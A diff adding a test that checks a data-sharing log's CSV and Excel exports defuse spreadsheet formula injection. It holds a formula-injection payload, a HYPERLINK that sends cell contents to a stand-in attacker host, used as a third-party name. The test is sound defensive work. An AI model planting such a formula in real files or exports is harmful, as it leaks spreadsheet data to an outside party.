@@ -6,6 +6,7 @@ import ExcelJS from "exceljs";
 import { beforeAll, describe, expect, it } from "vitest";
 import { createCustomer, createInstallation, createUser, validSwedishPersonnummer, type CreatedUser } from "@/fixtures/factories";
 import { createConsentRequest, createDataDelivery, createThirdParty } from "@/fixtures/third-party-factories";
+import { splitCsvLine } from "@/domain/csv/split-line";
 import { addDays, localDate, localMidnightUtc } from "@/domain/time/zoned";
 import type { Customer, Installation } from "@/generated/prisma/client";
 import type { CustomerActor } from "@/server/access/actor";
@@ -418,5 +419,35 @@ describe("the sharing log", () => {
     expect(own.trimEnd().split("\r\n")).toHaveLength(2);
     expect(own).not.toContain(customerA.customerNumber);
     expect(own).not.toContain("Villa");
+  });
+});
+
+describe("the sharing log export opened in a spreadsheet", () => {
+  const HYPERLINK = '=HYPERLINK("http://angripare.example/?d="&A1;"Klicka här")';
+
+  it("neutralises a company or installation name that would run as a formula, keeps numbers numbers, and Excel cells text", async () => {
+    const customer = await createCustomer(db, { kind: "PRIVATE", name: "Cilla Csv" });
+    const installation = await createInstallation(db, { customerId: customer.id, type: "ELECTRICITY_GRID", name: "@SUM(1+1)", street: "-1 Gatan 1" });
+    const admin = await customerActorOf(await createUser(db, { name: "Cilla Csv", memberships: [{ customerId: customer.id, role: "ADMINISTRATOR" }] }));
+    const party = await createThirdParty(db, { name: HYPERLINK });
+    const consent = await active(party, installation, customer);
+    await createDataDelivery(db, { request: consent, deliveredAt: new Date("2026-03-02T07:00:00Z"), periodFrom: "2026-03-01", periodTo: "2026-03-02", valueCount: 24 });
+
+    const csv = new TextDecoder("utf-8", { ignoreBOM: true }).decode((await exportDataDeliveries(admin, {}, { format: "csv", lang: "sv" })).body);
+    const row = splitCsvLine(csv.slice(1).trimEnd().split("\r\n")[1]!, ";");
+    expect(row[2]).toBe(`'${HYPERLINK}`);
+    expect(row[5]).toBe("'@SUM(1+1)");
+    expect(row[6]).toMatch(/^'-1 Gatan 1, /);
+    expect(row[11]).toBe("24");
+
+    const xlsx = await exportDataDeliveries(admin, {}, { format: "xlsx", lang: "sv" });
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(xlsx.body as unknown as ArrayBuffer);
+    const cells = workbook.worksheets[0]!.getRow(2);
+    // A string cell shows the name as it is; only a formula cell would run it.
+    expect(cells.getCell(3).type).toBe(ExcelJS.ValueType.String);
+    expect(cells.getCell(3).value).toBe(HYPERLINK);
+    expect(cells.getCell(6).value).toBe("@SUM(1+1)");
+    expect(cells.getCell(12).value).toBe(24);
   });
 });
